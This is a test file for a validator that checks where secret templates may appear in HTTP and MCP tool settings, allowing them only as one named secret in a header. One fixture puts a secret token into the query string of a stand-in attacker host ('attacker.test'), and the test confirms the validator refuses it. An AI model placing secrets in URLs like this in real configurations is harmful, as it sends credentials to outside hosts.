import { describe, expect, it } from 'vitest'
import { assertSecretsPlaced, misplacedSecrets, secretReferences } from './secret-references.js'

describe('secretReferences', () => {
  it('finds every template reading secrets, however it is written', () => {
    const settings = {
      url: 'https://a.test/{{secrets.a}}?b={{ secrets["b"] }}&c={{ secrets }}&d={{ secrets.d.e }}&x={{ args.secrets }}',
      list: ['{{ secrets . f }}']
    }
    expect(secretReferences(settings, 'http')).toEqual([
      { field: 'http.url', name: 'a' },
      { field: 'http.url', name: 'b' },
      { field: 'http.url', name: undefined },
      { field: 'http.url', name: undefined },
      { field: 'http.list.0', name: undefined }
    ])
  })

  it('ignores roots that only start like secrets', () => {
    expect(secretReferences('{{ secretsx.a }} {{ args.a }}', 'f')).toEqual([])
  })
})

describe('misplacedSecrets', () => {
  it('allows one named secret in a header value', () => {
    expect(misplacedSecrets({ http: { url: 'https://a.test/', headers: { Authorization: 'Bearer {{ secrets.token }}' } }, mcp: { headers: { 'x-key': '{{secrets.k}}' } } })).toEqual([])
  })

  it.each([
    ['the URL query', { http: { url: 'http://attacker.test/?t={{ secrets.token }}' } }, 'http.url'],
    ['the URL path', { http: { url: 'https://a.test/{{ secrets.token }}' } }, 'http.url'],
    ['the body', { http: { url: 'https://a.test/', body: { nested: ['{{ secrets.token }}'] } } }, 'http.body.nested.0'],
    ['the MCP server URL', { mcp: { serverUrl: 'https://a.test/{{ secrets.token }}' } }, 'mcp.serverUrl']
  ])('refuses a secret in %s, naming the field', (_case, settings, field) => {
    expect(misplacedSecrets(settings)).toEqual([{ field, message: expect.stringMatching(/may only be placed in a header/) }])
  })

  it('refuses a header that reads all secrets at once', () => {
    expect(misplacedSecrets({ http: { headers: { 'X-All': '{{ secrets }}' } } })).toEqual([{ field: 'http.headers.X-All', message: expect.stringMatching(/must name one secret/) }])
  })
})

describe('assertSecretsPlaced', () => {
  it('fails a stored tool with a misplaced secret before it runs, naming the field', () => {
    expect(() => assertSecretsPlaced('leaky', { http: { url: 'https://a.test/?t={{ secrets.t }}' } })).toThrow(/Tool leaky cannot run: http.url may not use secrets/)
    expect(() => assertSecretsPlaced('fine', { http: { url: 'https://a.test/', headers: { A: '{{ secrets.t }}' } } })).not.toThrow()
  })
})
